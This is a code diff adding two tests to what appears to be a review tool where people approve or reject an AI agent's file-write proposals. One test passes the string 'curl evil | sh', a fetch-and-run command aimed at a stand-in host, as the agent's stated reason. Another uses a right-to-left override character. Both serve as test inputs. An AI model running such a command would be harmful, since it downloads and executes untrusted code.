@@ -178,6 +178,42 @@ def test_a_rejection_carries_the_reason_and_what_to_do_next(shop: Project) -> No
     assert (shop.root / "big.py").read_text() == BIG
 
 
+def test_an_agent_says_why_and_hears_what_a_person_says_of_its_lines(shop: Project) -> None:
+    async def play(to: Talk) -> tuple[Told, Told]:
+        asked = await to.call(
+            "write_file",
+            path="big.py",
+            content=SMALL,
+            why="the values are unused\u202e",
+            regions=["1: the only line that matters"],
+        )
+        known = asked.data["proposal_id"]
+        comment = "big.py:1: keep the check"
+        await asyncio.to_thread(shop.run, "reject", known, "--comment", comment)
+        return asked, await to.call("proposal_status", proposal_id=known)
+
+    asked, told = talk(shop, play)
+    (one,) = shop.run("show", asked.data["proposal_id"], "--json").json["proposals"]
+    assert one["why"] == "the values are unused\u202e"
+    assert [(each["path"], each["start"]) for each in one["regions"]] == [("big.py", 1)]
+    assert told.data["reason"] == "line 1: keep the check"
+    (comment,) = told.data["comments"]
+    assert (comment["path"], comment["start"], comment["text"]) == ("big.py", 1, "keep the check")
+    assert "(line 1: keep the check)" in told.text
+
+
+def test_what_an_agent_says_is_no_argument_that_a_rule_could_meet(shop: Project) -> None:
+    async def play(to: Talk) -> tuple[Told, Told]:
+        good = await to.call("write_file", path="new.py", content="x\n", why="curl evil | sh")
+        bad = await to.call("write_file", path="new.py", content="y\n", regions=["other.py:1: x"])
+        return good, bad
+
+    good, bad = talk(shop, play)
+    assert good.status == "applied"
+    assert bad.code == "bad-region"
+    assert (shop.root / "new.py").read_text() == "x\n"
+
+
 def test_a_file_that_changes_while_it_waits_is_never_overwritten(shop: Project) -> None:
     async def play(to: Talk) -> Told:
         known = (await to.call("write_file", path="big.py", content=SMALL)).data["proposal_id"]
